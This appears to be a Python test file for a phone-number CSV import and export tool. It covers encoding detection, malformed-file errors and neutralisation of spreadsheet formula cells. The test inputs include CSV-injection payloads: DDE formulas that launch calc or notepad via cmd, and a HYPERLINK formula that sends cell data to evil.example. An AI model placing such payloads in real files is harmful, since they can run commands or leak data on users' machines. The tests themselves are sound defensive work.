"""CSV files from anywhere, and CSV files safe to open: encodings, huge fields, formula cells."""

from __future__ import annotations

import codecs
import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from callplane.cli import app
from callplane.client._bulk_import import read_rows
from callplane.core.csv_export import safe_cell, write_rows
from callplane.numbers.csv_encoding import UnreadableCsv
from tests.client_support import client_for
from tests.helpers import Backend, Tenant
from tests.live_server import live_server

FORMULAS = ["=cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|x", "+cmd|' /C notepad'!A1", "\t=1+1"]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("cell", [*FORMULAS, HYPERLINK])
def test_formula_cells_are_neutralised(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["+14155550100", "+1 (415) 555-0100", "-3", "Café 12", "", "a=b", "line 3"]
)
def test_data_cells_are_left_alone(cell: str) -> None:
    assert safe_cell(cell) == cell


def test_every_cell_written_is_safe() -> None:
    handle = io.StringIO()
    write_rows(handle, ["line", "value"], [(2, cell) for cell in [*FORMULAS, HYPERLINK]])
    rows = list(csv.reader(io.StringIO(handle.getvalue())))
    assert all(row[1].startswith("'") for row in rows[1:])


def test_the_rejected_rows_report_neutralises_formulas(
    backend: Backend, tenant: Tenant, tmp_path: Path
) -> None:
    """The reported attack: formula cells went verbatim into ``--report``."""
    path = tmp_path / "numbers.csv"
    rows = ["e164,friendly_name", "+12125550110,Café Zürich", *(f'"{c}",x' for c in FORMULAS)]
    path.write_bytes("\n".join(rows).encode("latin-1"))  # and a Latin-1 file, as Excel writes
    report = tmp_path / "rejected.csv"
    with live_server(backend.url, tmp_path / "server.log") as base_url:
        result = CliRunner().invoke(
            app,
            ["numbers", "import", str(path), "--report", str(report)],
            env={"CALLPLANE_URL": base_url, "CALLPLANE_API_KEY": tenant.key},
        )
    assert result.exit_code == 3, result.output
    with report.open(newline="", encoding="utf-8") as handle:
        rejected = list(csv.DictReader(handle))
    assert len(rejected) == len(FORMULAS)
    for row in rejected:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t")), row
    names = [n["friendly_name"] for n in tenant.get("/v1/numbers").json()["data"]]
    assert names == ["Café Zürich"]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16-le", "utf-16-be", "latin-1"])
def test_the_encoding_is_detected(tmp_path: Path, encoding: str) -> None:
    text = "e164,friendly_name\n+12125550110,Café\n+12125550111,Ünïcode\n"
    mark = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE}.get(encoding, b"")
    path = tmp_path / "numbers.csv"
    path.write_bytes(mark + text.encode(encoding))
    rows, rejected = read_rows(path)
    assert rejected == []
    assert [(r.line, r.e164, r.friendly_name) for r in rows] == [
        (2, "+12125550110", "Café"),
        (3, "+12125550111", "Ünïcode"),
    ]


def unreadable(tmp_path: Path, data: bytes) -> str:
    path = tmp_path / "numbers.csv"
    path.write_bytes(data)
    with pytest.raises(UnreadableCsv) as caught:
        read_rows(path)
    return str(caught.value)


def test_utf16_without_a_mark_is_refused_naming_the_line(tmp_path: Path) -> None:
    message = unreadable(tmp_path, "e164\n+12125550110\n".encode("utf-16-le"))
    assert message.startswith("line 1: a NUL byte")


def test_a_nul_byte_is_refused_naming_its_line(tmp_path: Path) -> None:
    message = unreadable(tmp_path, b"e164\n+12125550110\n+1212555\x000111\n")
    assert message.startswith("line 3:")


def test_a_field_over_128_kb_is_a_message_naming_the_line(tmp_path: Path) -> None:
    huge = "x" * (128 * 1024 + 1)
    message = unreadable(
        tmp_path, f"e164,friendly_name\n+12125550110,a\n+12125550111,{huge}\n".encode()
    )
    assert message.startswith("line 3: a field is longer than 128 KB")


def test_an_unclosed_quote_names_the_line_it_began_on(tmp_path: Path) -> None:
    rows = "\n".join(f"+1212555{i:04d}" for i in range(100, 200))
    message = unreadable(tmp_path, f'e164\n+12125550101\n"{rows}\n{"y" * 140_000}\n'.encode())
    assert message.startswith("line 3:")


@pytest.mark.parametrize(
    "data",
    [
        "e164\n+12125550110\n".encode("utf-16-le"),
        b"e164,name\n+12125550110," + b"z" * 200_000 + b"\n",
    ],
)
def test_the_cli_never_shows_a_traceback(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "numbers.csv"
    path.write_bytes(data)
    result = CliRunner().invoke(
        app,
        ["numbers", "import", str(path)],
        env={"CALLPLANE_URL": "http://127.0.0.1:9", "CALLPLANE_API_KEY": "sk_live_unused_key"},
    )
    assert result.exit_code == 1
    assert isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    assert "numbers.csv, line" in result.output and "nothing was sent" in result.output


def test_a_utf16_file_imports_end_to_end(tenant: Tenant, tmp_path: Path) -> None:
    path = tmp_path / "numbers.csv"
    path.write_bytes(
        codecs.BOM_UTF16_LE + "e164,friendly_name\n+12125550110,Señal\n".encode("utf-16-le")
    )
    with client_for(tenant) as client:
        report = client.numbers.import_csv(path, resume=False)
    assert report.imported == 1 and report.rejected == []
    assert tenant.get("/v1/numbers/12125550110").json()["data"]["friendly_name"] == "Señal"
